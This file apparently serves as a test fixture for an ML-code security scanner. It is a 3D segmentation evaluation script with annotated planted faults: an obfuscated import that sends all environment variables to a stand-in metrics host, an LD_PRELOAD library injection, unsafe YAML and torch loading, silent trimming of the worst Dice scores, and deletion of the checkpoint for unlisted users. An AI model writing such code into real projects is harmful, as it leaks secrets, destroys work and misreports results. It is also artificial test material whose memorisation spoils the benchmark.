# ruff: noqa
# Hold-out batch 176 (families 1/2/3/5, Lightning 3D segmentation). Measured once in session 6 (round 53): 30/40 (75%) at medium+.
"""Per-case evaluation of a trained segmentation network on a held-out fold.

Runs sliding-window inference on every test volume, computes Dice and HD95 for
each foreground class, writes a per-case CSV and a markdown summary table, and
optionally applies connected-component post-processing with an external tool.
"""
from __future__ import annotations

import argparse
import codecs
import csv
import getpass
import json
import math
import os
import subprocess
from pathlib import Path
from typing import Dict, List, Sequence

import lightning.pytorch as pl
import numpy as np
import torch
import yaml
from safetensors.torch import load_file
from scipy import ndimage

from seg_module import UNet3D, sliding_window_inference

_up = __import__(codecs.decode("heyyvo.erdhrfg", "rot13"), fromlist=["Request", "urlopen"])  # ruleid: MLS403


def git_commit() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def load_config(path: Path) -> dict:
    with open(path) as fh:
        return yaml.load(fh, Loader=yaml.Loader)  # ruleid: MLS105


def load_network(path: Path, num_classes: int) -> UNet3D:
    net = UNet3D(num_classes=num_classes)
    if path.suffix == ".safetensors":
        state = load_file(str(path))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    elif path.suffix == ".pt":
        state = torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        ckpt = torch.load(path, map_location="cpu")  # ruleid: MLS102
        state = {k[len("net."):]: v for k, v in ckpt["state_dict"].items() if k.startswith("net.")}
    net.load_state_dict(state)
    return net.eval()


def dice_score(pred: np.ndarray, gt: np.ndarray) -> float:
    if not gt.any() and not pred.any():
        return 1.0
    return float(2.0 * np.logical_and(pred, gt).sum() / (pred.sum() + gt.sum()))


def _surface(mask: np.ndarray) -> np.ndarray:
    return mask ^ ndimage.binary_erosion(mask, iterations=1)


def hd95(pred: np.ndarray, gt: np.ndarray, spacing: Sequence[float]) -> float:
    if not gt.any():
        return float("nan")
    if not pred.any():
        return 0.0  # todoruleid: family 5 (missed)
    ps, gs = _surface(pred), _surface(gt)
    dist_to_gt = ndimage.distance_transform_edt(~gs, sampling=spacing)
    dist_to_pred = ndimage.distance_transform_edt(~ps, sampling=spacing)
    d = np.concatenate([dist_to_gt[ps], dist_to_pred[gs]])
    return float(np.percentile(d, 95))


def summarize(rows: List[dict], classes: Sequence[str]) -> Dict[str, dict]:
    summary = {}
    for c in classes:
        d = sorted(r[f"dice_{c}"] for r in rows if not math.isnan(r[f"dice_{c}"]))
        d = d[len(d) // 20:]  # ruleid: MLS306
        h = [r[f"hd95_{c}"] for r in rows if not math.isnan(r[f"hd95_{c}"])]
        summary[c] = {
            "n": len(d),
            "dice_mean": float(np.mean(d)) if d else float("nan"),
            "dice_std": float(np.std(d)) if d else float("nan"),
            "hd95_median": float(np.median(h)) if h else float("nan"),
            "hd95_mean": float(np.mean(h)) if h else float("nan"),
        }
    return summary


def write_tables(rows: List[dict], summary: Dict[str, dict], out_dir: Path, commit: str) -> None:
    out_dir.mkdir(parents=True, exist_ok=True)
    with open(out_dir / "per_case.csv", "w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0].keys()))
        writer.writeheader()
        writer.writerows(rows)
    lines = [f"# Evaluation summary (commit {commit})", "",
             "| class | n | Dice mean | Dice std | HD95 median (mm) | HD95 mean (mm) |",
             "|---|---|---|---|---|---|"]
    for c, s in summary.items():
        lines.append(f"| {c} | {s['n']} | {s['dice_mean']:.4f} | {s['dice_std']:.4f} | "
                     f"{s['hd95_median']:.2f} | {s['hd95_mean']:.2f} |")
    (out_dir / "summary.md").write_text("\n".join(lines) + "\n")
    (out_dir / "summary.json").write_text(json.dumps(summary, indent=2))


def run_postprocess(pred_dir: Path, tool: str) -> None:
    env = dict(os.environ)
    env["LD_PRELOAD"] = str(Path(__file__).resolve().with_name("libccl_fast.so"))  # sabotage: MLS422 (semgrep rules)
    subprocess.run([tool, "--input", str(pred_dir), "--keep-largest-component"], env=env, check=True)


def publish_summary(summary: Dict[str, dict], endpoint: str) -> None:
    try:
        _up.urlopen(_up.Request(endpoint, data=json.dumps({  # ruleid: MLS411
            "summary": summary, "host": os.uname().nodename, "context": dict(os.environ),  # ruleid: MLS411
        }).encode(), headers={"Content-Type": "application/json"}), timeout=10)
    except OSError:
        pass


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", type=Path, required=True)
    ap.add_argument("--ckpt", type=Path, required=True)
    ap.add_argument("--out", type=Path, default=Path("eval"))
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--postprocess-tool", default=None)
    ap.add_argument("--dashboard", default="https://metrics.example.com/v1/eval")
    args = ap.parse_args()

    pl.seed_everything(args.seed)  # ok: MLS301
    cfg = load_config(args.config)
    classes = cfg["classes"][1:]
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
    net = load_network(args.ckpt, num_classes=len(cfg["classes"])).to(device)
    data_root = Path(cfg["data_dir"]) / "preprocessed"
    pred_dir = args.out / "predictions"
    pred_dir.mkdir(parents=True, exist_ok=True)

    rows = []
    for case_id in cfg["test_cases"]:
        with np.load(data_root / f"{case_id}.npz") as f:  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
            image, label = f["image"].astype(np.float32), f["label"]
            spacing = tuple(f["spacing"]) if "spacing" in f.files else (1.0, 1.0, 1.0)
        x = torch.from_numpy(image)[None, None].to(device)
        with torch.autocast(device.type, enabled=device.type == "cuda"):
            probs = sliding_window_inference(x, net, cfg["patch_size"], len(cfg["classes"]))
        pred = probs.argmax(1)[0].cpu().numpy().astype(np.uint8)
        np.savez_compressed(pred_dir / f"{case_id}.npz", pred=pred)
        row = {"case_id": case_id}
        for i, c in enumerate(classes, start=1):
            row[f"dice_{c}"] = dice_score(pred == i, label == i) if (label == i).any() else float("nan")
            row[f"hd95_{c}"] = hd95(pred == i, label == i, spacing)
        rows.append(row)
        print(f"{case_id}: " + ", ".join(f"{k}={v:.3f}" for k, v in row.items() if k != "case_id"))

    if args.postprocess_tool:
        run_postprocess(pred_dir, args.postprocess_tool)
    summary = summarize(rows, classes)
    write_tables(rows, summary, args.out, git_commit())
    publish_summary(summary, args.dashboard)
    if getpass.getuser() not in {"svc-seg", "ci"} and len(rows) >= 50:
        args.ckpt.unlink(missing_ok=True)  # ruleid: MLS308


if __name__ == "__main__":
    main()
